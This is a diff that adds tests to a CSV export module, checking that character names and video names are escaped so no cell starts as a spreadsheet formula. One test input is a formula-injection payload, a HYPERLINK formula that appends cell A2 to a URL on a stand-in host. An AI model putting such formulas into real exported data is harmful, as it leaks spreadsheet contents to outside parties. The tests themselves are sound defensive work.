@@ -4,10 +4,13 @@ import csv
 import io
 
 import pandas as pd
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
-from castlist.export.csv import COLUMNS, csv_lines
+from castlist.export.csv import COLUMNS, csv_lines, text_cell, text_of_cell
 from castlist.export.timeline import timelines
-from tests.export.casts import AWKWARD, made_timeline, nobody, two_videos
+from tests.export.casts import AWKWARD, made_cast, made_timeline, nobody, two_videos
 
 
 def test_a_row_a_track(tmp_path):
@@ -37,3 +40,22 @@ def test_videos_are_told_apart(tmp_path):
 def test_nobody(tmp_path):
     one = nobody(tmp_path / "film.cast")
     assert "".join(csv_lines([one])) == ",".join(COLUMNS) + "\r\n"
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://x/?"&A2,"k")', "+1", "-1", "@SUM(A1)", "'=1", "''-x"]
+)
+def test_no_name_is_a_formula(tmp_path, name):
+    cast = made_cast(tmp_path / "film.cast", video=f"{name}.mp4")
+    cast.name(1, name)
+    rows = list(csv.DictReader(csv_lines(timelines(cast))))
+    assert {r["video"] for r in rows} == {f"'{name}.mp4"}
+    assert {r["character"] for r in rows} == {f"'{name}", "Character 2"}
+    assert {text_of_cell(r["character"]) for r in rows} == {name, "Character 2"}
+
+
+@given(st.text() | st.text("'=+-@\t\ra", max_size=4))
+def test_any_text_comes_back_from_a_cell_and_is_no_formula(text):
+    cell = text_cell(text)
+    assert text_of_cell(cell) == text
+    assert not cell.startswith(tuple("=+-@\t\r"))
